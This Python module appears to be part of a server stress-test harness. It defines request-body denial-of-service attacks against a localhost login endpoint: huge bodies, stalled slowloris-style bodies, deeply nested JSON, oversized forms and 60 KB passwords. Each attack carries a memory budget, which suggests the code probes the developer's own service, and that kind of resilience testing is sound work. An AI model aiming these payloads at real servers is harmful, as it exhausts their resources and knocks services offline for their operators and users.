"""Attacks with the bodies of requests."""
import json
from . import attack
from .connections import hold, many

HEAD = b"POST %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"


def request(body, kind=b"application/json", path=b"/auth/login"):
    return HEAD % (path, kind, len(body)) + body


@attack("100 bodies of 10 MB", memory=40)
async def long_bodies(target):
    await many(100, lambda n: target.raw(request(b" " * 10_000_000), n), at_once=20)


@attack("1,000 bodies that stall one byte before their end of 60 KB", memory=160)
async def slow_bodies(target):
    body = request(b" " * 60_000)
    still = await hold(target, 1000, body[:-1], 6)
    return f"{still:,} open after 6 s"


@attack("500 bodies with JSON of depth 30,000", memory=24)
async def deep_json(target):
    await many(500, lambda n: target.raw(request(b"[" * 30_000 + b"]" * 30_000), n))


@attack("500 forms with 10,000 fields", memory=32)
async def many_fields(target):
    form = b"&".join(b"f%d=" % n for n in range(10_000))[:64_000]
    await many(500, lambda n: target.raw(request(form, b"application/x-www-form-urlencoded", b"/login"), n))


@attack("500 passwords of 60 KB", memory=24)
async def long_passwords(target):
    body = json.dumps({"email": "ann@example.com", "password": "x" * 60_000}).encode()
    await many(500, lambda n: target.raw(request(body), n))
